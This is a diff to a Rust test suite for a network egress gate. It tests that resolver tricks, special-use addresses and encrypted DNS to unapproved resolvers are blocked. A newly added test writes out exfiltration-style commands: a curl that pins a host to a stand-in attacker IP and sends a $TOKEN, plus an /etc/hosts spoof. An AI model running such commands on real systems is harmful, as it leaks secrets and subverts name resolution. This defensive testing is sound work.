@@ -1,7 +1,6 @@
 //! ATTACKS.md, D9, D10, D12 and D13: names that lead where they should not, and resolvers that are not ours.
 
-use anyhow::{Result, ensure};
-use nix::sys::signal::Signal;
+use anyhow::{Context, Result, ensure};
 use portcullis_common::event::{EventKind, JobStage, Verdict};
 use portcullis_tests::evidence::{Actor, Call, NO_RULE, Question};
 use portcullis_tests::gate::{Gate, POLICY, policy, root_step, step};
@@ -50,7 +49,8 @@ fn names_do_not_open_addresses_of_special_use() -> Result<()> {
     }
     let mut ask = String::new();
     for (name, kind, _) in SPECIAL {
-        ask.push_str(&format!("echo {name} {kind} [$(dig +short +tries=1 {kind} {name})]\n"));
+        let question = format!("echo {name} {kind} [$(dig +short +tries=1 {kind} {name})]\n");
+        ask.push_str(&question);
     }
     let mut job = gate.job();
     job.steps = vec![
@@ -79,7 +79,7 @@ fn names_do_not_open_addresses_of_special_use() -> Result<()> {
     for line in ["10.0.0.1 is closed", "169.254.169.254 is closed", "the name is closed"] {
         ensure!(log.contains(line), "no `{line}` in\n{log}");
     }
-    let twins = &result.step("twins").unwrap().log;
+    let twins = &result.step("twins").context("no step")?.log;
     ensure!(twins.contains("198.51.100.51") && !twins.contains("127.0.0.1"), "{twins}");
 
     let events = gate.final_events()?;
@@ -128,9 +128,8 @@ fn encrypted_dns_to_other_resolvers_is_blocked() -> Result<()> {
     let gate = Gate::up(&policy("block", &["ok.test:443", "198.51.100.60:853"]))?;
     let mut script = String::new();
     for (technique, address, port) in ENCRYPTED {
-        script.push_str(&format!(
-            "python3 -S $ATTACKS/transport.py {technique} {address} {port} &\n"
-        ));
+        let command = format!("python3 -S $ATTACKS/transport.py {technique} {address} {port} &\n");
+        script.push_str(&command);
     }
     // The twin: a resolver that the policy names; nobody is there, which the world's router says.
     script.push_str("python3 -S $ATTACKS/transport.py tcp 198.51.100.60 853 &\nwait\n");
@@ -268,7 +267,6 @@ fn a_dead_resolver_and_one_in_its_place_open_nothing() -> Result<()> {
     let running = gate.begin(&job)?;
     running.wait_for_line("ready")?;
     gate.assert_contained()?;
-    monitor.kill().or_else(|_| monitor.signal(Signal::SIGCONT)).ok();
     monitor.restart()?;
     gate.release("go-on")?;
     let result = running.wait()?;
@@ -307,5 +305,29 @@ fn a_dead_resolver_and_one_in_its_place_open_nothing() -> Result<()> {
             EventKind::Posture(posture) if gap(&posture.reason))),
         "the gap is not in the posture"
     );
+    Ok(())
+}
+
+#[test]
+fn without_a_gate_the_same_calls_get_through() -> Result<()> {
+    let gate = Gate::without(World::builder())?;
+    gate.world().add_address("10.0.0.1".parse()?)?;
+    gate.release("tcp-203.0.113.66")?;
+    let script = "dig +short A private.special.test\ncurl -ksS --max-time 5 https://private.special.test/\n\
+                  python3 -S $ATTACKS/transport.py tcp 203.0.113.66 853\n\
+                  curl -ksS --max-time 5 --resolve api.ok.test:443:203.0.113.66 https://api.ok.test/$TOKEN\n";
+    let mut job = gate.job();
+    job.steps = vec![
+        step("calls", script),
+        root_step("hosts", "echo 203.0.113.66 ok.test >> /etc/hosts"),
+        step("pinned", "curl -ksS --max-time 5 https://ok.test/$TOKEN"),
+    ];
+    let result = gate.begin(&job)?.wait()?;
+    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
+    ensure!(result.log().contains("10.0.0.1"), "{}", result.log());
+    gate.assert_leaked()?;
+    let ports: Vec<u16> =
+        gate.world().attacker().streams().iter().map(|stream| stream.port).collect();
+    ensure!(ports == [853, 443, 443], "the attacker was called on {ports:?}");
     Ok(())
 }
